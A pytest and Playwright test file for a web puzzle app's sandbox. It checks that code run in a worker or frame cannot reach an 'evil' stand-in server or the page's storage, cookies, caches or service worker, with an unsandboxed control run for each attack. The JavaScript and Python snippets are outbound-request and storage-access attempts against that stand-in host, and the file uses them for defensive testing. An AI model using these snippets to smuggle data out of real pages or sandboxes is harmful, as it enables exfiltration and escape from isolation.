"""Attacks of foreign code: each fails in the sandbox, and the same attack succeeds without it."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Worker, expect

from tests.tiers import usually
from tests.web.drive import press, status, wait_for_python
from tests.web.foreign.coded import SOURCE, Stranger, run, stranger
from tooling.server import Server

FROM_WORKER = {
    "fetch": "await fetch(evil + '/a'); return 'through'",
    "fetch without an answer": "await fetch(evil + '/a', { mode: 'no-cors' }); return 'through'",
    "fetch that outlives": "await fetch(evil + '/a', { keepalive: true }); return 'through'",
    "XMLHttpRequest": """
        const asked = new XMLHttpRequest();
        asked.open("GET", evil + "/a", false);
        asked.send();
        return asked.status === 200 ? "through" : "refused";
    """,
    "WebSocket": """
        const socket = new WebSocket(evil.replace("http", "ws") + "/a");
        await new Promise((done) => (socket.onerror = socket.onopen = done));
        return "asked";
    """,
    "EventSource": """
        const events = new EventSource(evil + "/a");
        await new Promise((done) => (events.onerror = events.onopen = done));
        events.close();
        return "asked";
    """,
    "importScripts": "importScripts(evil + '/a'); return self.through ? 'through' : 'refused'",
    "import": "await import(evil + '/a'); return 'through'",
    "a worker within": """
        const text = `fetch("${evil}/a").then(() => postMessage("through"), () => postMessage(""))`;
        const inner = new Worker(URL.createObjectURL(new Blob([text])));
        return new Promise((done) => {
            inner.onmessage = ({ data }) => done(data);
            inner.onerror = () => done("refused");
        });
    """,
    "indexedDB": """
        const asked = indexedDB.open("gridwright");
        return new Promise((done) => {
            asked.onsuccess = () => done("through");
            asked.onerror = () => done("refused");
        });
    """,
    "caches": "await caches.open('gridwright-files'); return 'through'",
    "files": "await navigator.storage.getDirectory(); return 'through'",
    "locks": "return navigator.locks.request('a', () => 'through')",
}
"""What code in a worker tries: it returns “through”, or the stranger hears from it."""

FROM_FRAME = {
    "the page's document": "return parent.document.title === undefined ? '' : 'through'",
    "storage": "return localStorage.length >= 0 ? 'through' : ''",
    "cookies": "document.cookie = 'a=b'; return document.cookie ? 'through' : ''",
    "a popup": "return open(evil + '/a') ? 'through' : 'refused'",
    "an image": """
        const image = new Image();
        image.src = evil + "/a";
        return new Promise((done) => (image.onerror = image.onload = () => done("asked")));
    """,
}
"""What the frame's document could try, in which no foreign code runs."""

TRY = """async (evil) => {
    try { return String(await (async () => { ATTACK })()); } catch (error) { return String(error); }
}"""
EMPTY_WORKER = """() => {
    globalThis.kept = new Worker(URL.createObjectURL(new Blob([""])));
}"""


@pytest.fixture
def own(browser: Browser, site: Server) -> Iterator[Page]:
    """A page that may ask other servers, as the controls do."""
    context = browser.new_context(base_url=site.url, service_workers="block")
    yield context.new_page()
    context.close()


@pytest.fixture
def evil() -> Iterator[Stranger]:
    """A server of somebody else."""
    with stranger() as server:
        yield server


def ready(page: Page) -> None:
    """Our board, with Python."""
    page.goto("./#solve")
    wait_for_python(page)


def inside(page: Page) -> Worker:
    """The worker that was started from a text: on our page, the sandbox's."""
    (found,) = (one for one in page.workers if one.url.startswith("blob:"))
    return found


def answers(page: Page) -> None:
    """The sandbox still solves its puzzle; whatever it sent before has been heard by now."""
    press(page, "Solve")
    expect(status(page)).to_contain_text("The solution is unique.")


@usually(1)
@pytest.mark.parametrize("attack", FROM_WORKER)
def test_an_attack_from_a_worker_fails(attack: str, own: Page, evil: Stranger) -> None:
    """The control comes first: in a worker of a page without policy, the attack succeeds."""
    trial = TRY.replace("ATTACK", FROM_WORKER[attack])
    own.goto(f"{evil.url}/page")
    with own.expect_worker() as started:
        own.evaluate(EMPTY_WORKER)
    free = started.value.evaluate(trial, evil.url)
    assert free == "through" or evil.hears("/a"), free
    ready(own)
    run(own)
    evil.forget()
    assert inside(own).evaluate(trial, evil.url) != "through"
    answers(own)
    assert not evil.heard


@usually(0)
@pytest.mark.parametrize("attack", FROM_FRAME)
def test_an_attack_from_the_frame_fails(attack: str, own: Page, evil: Stranger) -> None:
    """The control comes first: in a frame of the same site, the attack succeeds."""
    trial = TRY.replace("ATTACK", FROM_FRAME[attack])
    own.goto(f"{evil.url}/page")
    own.evaluate("document.documentElement.append(document.createElement('iframe'))")
    free = own.frames[1].evaluate(trial, evil.url)
    assert free == "through" or evil.hears("/a"), free
    ready(own)
    run(own)
    evil.forget()
    (frame,) = (one for one in own.frames if one != own.main_frame)
    assert frame.evaluate(trial, evil.url) != "through"
    answers(own)
    assert not evil.heard


@usually(0)
def test_a_broadcast_is_not_heard(own: Page) -> None:
    """The control is a broadcast of the page itself, after that of the sandbox."""
    ready(own)
    own.evaluate(
        """() => {
            globalThis.heard = [];
            new BroadcastChannel("gridwright").onmessage = ({ data }) => heard.push(data);
        }"""
    )
    say = """(word) => { new BroadcastChannel("gridwright").postMessage(word); }"""
    run(own)
    inside(own).evaluate(say, "from the sandbox")
    own.evaluate(say, "from the page")
    own.wait_for_function("heard.includes('from the page')")
    answers(own)
    assert own.evaluate("heard") == ["from the page"]


@usually(0)
def test_the_service_worker_is_out_of_reach(own: Page) -> None:
    """The control is the page itself."""
    ready(own)
    count = "async () => (await navigator.serviceWorker.getRegistrations()).length"
    assert own.evaluate(count) == 0
    run(own)
    tried = TRY.replace("ATTACK", f"return ({count})()")
    assert inside(own).evaluate(tried, "").startswith("TypeError")


REACHING = """
import js

for name in ("fetch", "XMLHttpRequest", "WebSocket"):
    try:
        if name == "fetch":
            js.fetch("EVIL/a")
        elif name == "WebSocket":
            js.WebSocket.new("EVIL/a".replace("http", "ws"))
        else:
            asked = js.XMLHttpRequest.new()
            asked.open("GET", "EVIL/a", False)
            asked.send()
    except Exception:
        pass
for name in ("document", "parent", "localStorage", "opener"):
    assert not hasattr(js, name), name
try:
    js.Function.new("return 1")()
except Exception:
    pass
else:
    raise SystemExit("JavaScript runs from a text")
"""


@usually(0)
def test_python_reaches_nobody(own: Page, evil: Stranger) -> None:
    """It has the same objects as the attacks above, which are its controls."""
    ready(own)
    run(own, SOURCE + REACHING.replace("EVIL", evil.url))
    answers(own)
    assert not evil.heard
